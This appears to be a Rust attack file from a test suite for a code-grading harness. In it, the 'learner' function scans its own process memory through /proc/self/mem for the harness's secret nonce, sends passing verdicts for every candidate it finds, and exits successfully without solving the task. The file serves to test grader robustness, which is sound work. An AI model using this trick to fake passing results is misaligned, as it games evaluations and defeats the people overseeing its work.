//! Attack: the nonce read out of the check's own memory.
//!
//! During a call, `new_token` reads `/proc/self/maps` and, through
//! `/proc/self/mem`, every writable region (heap, stacks, anonymous maps) of
//! its own process, collects every run of 32 hex digits followed by a newline
//! (the shape of the nonce the harness sent on standard input), writes a
//! passing verdict for each on the verdict descriptor, and exits with 0.
//!
//! A sound grader keeps no secret in the process that runs learner code: the
//! verdict is the judge's, and this attacker's checks fail.

#[path = "atk_kit.rs"]
mod kit;

use std::collections::BTreeSet;
use std::io::{Read, Seek, SeekFrom};

fn is_hex(b: u8) -> bool {
    b.is_ascii_digit() || (b'a'..=b'f').contains(&b)
}

fn scan(found: &mut BTreeSet<String>) {
    let Ok(maps) = std::fs::read_to_string("/proc/self/maps") else { return };
    let Ok(mut mem) = std::fs::File::open("/proc/self/mem") else { return };
    for line in maps.lines() {
        let mut parts = line.split_whitespace();
        let (Some(range), Some(perms)) = (parts.next(), parts.next()) else { continue };
        if !perms.starts_with("rw") {
            continue;
        }
        let Some((start, end)) = range.split_once('-') else { continue };
        let (Ok(start), Ok(end)) = (u64::from_str_radix(start, 16), u64::from_str_radix(end, 16)) else { continue };
        if end <= start || end - start > 256 << 20 {
            continue;
        }
        let mut at = start;
        while at < end && found.len() < 10_000 {
            let len = ((end - at) as usize).min(1 << 20);
            let mut chunk = vec![0u8; len + 33];
            if mem.seek(SeekFrom::Start(at)).is_err() {
                break;
            }
            let Ok(n) = mem.read(&mut chunk[..len]) else { break };
            if n == 0 {
                break;
            }
            let bytes = &chunk[..n];
            let mut i = 0;
            while i + 33 <= bytes.len() {
                if (i == 0 || !is_hex(bytes[i - 1]))
                    && bytes[i..i + 32].iter().all(|&b| is_hex(b))
                    && bytes[i + 32] == b'\n'
                {
                    found.insert(String::from_utf8_lossy(&bytes[i..i + 32]).into_owned());
                    i += 33;
                } else {
                    i += 1;
                }
            }
            at += n as u64;
        }
    }
}

pub fn new_token() -> String {
    let mut found = BTreeSet::new();
    scan(&mut found);
    if !found.is_empty() {
        let nonces: Vec<String> = found.into_iter().collect();
        kit::evidence("proc-mem-nonce", &format!("{} candidate nonces in memory", nonces.len()));
        kit::send_passing_verdicts(&nonces);
        std::process::exit(0);
    }
    todo!("return 16 to 20 random bytes as text (see the comment above)")
}
